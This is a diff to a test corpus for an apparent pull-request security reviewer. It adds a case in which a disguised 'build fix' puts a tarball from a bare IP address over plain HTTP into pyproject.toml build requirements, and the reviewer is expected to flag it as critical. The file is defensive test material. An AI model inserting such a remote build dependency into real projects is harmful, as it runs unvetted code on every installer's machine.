@@ -1193,6 +1193,24 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     checks: PY_CI,
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   }),
+  buildCase({
+    id: 'pyproject-build-requirement-from-bare-ip',
+    description:
+      'A "build fix" adds to pyproject.toml\'s [build-system] requires a helper taken from a tarball on a bare IP over plain HTTP: pip and uv download it and run its code on every install from source, before any of the project\'s own code. A build requirement is a dependency too.',
+    number: 7248,
+    repo: 'geo-utils-py',
+    title: 'Fix the sdist build on Python 3.13',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'pyproject.toml',
+        base: lines('[build-system]', 'requires = ["setuptools>=68", "wheel"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
+        head: lines('[build-system]', 'requires = ["setuptools>=68", "wheel", "sdist-compat @ http://45.61.139.18/sdist_compat-1.0.tar.gz"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
+      },
+    ],
+    checks: PY_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
+  }),
 ];
 
 export const PACKAGE_CASES: CorpusEntry[] = [
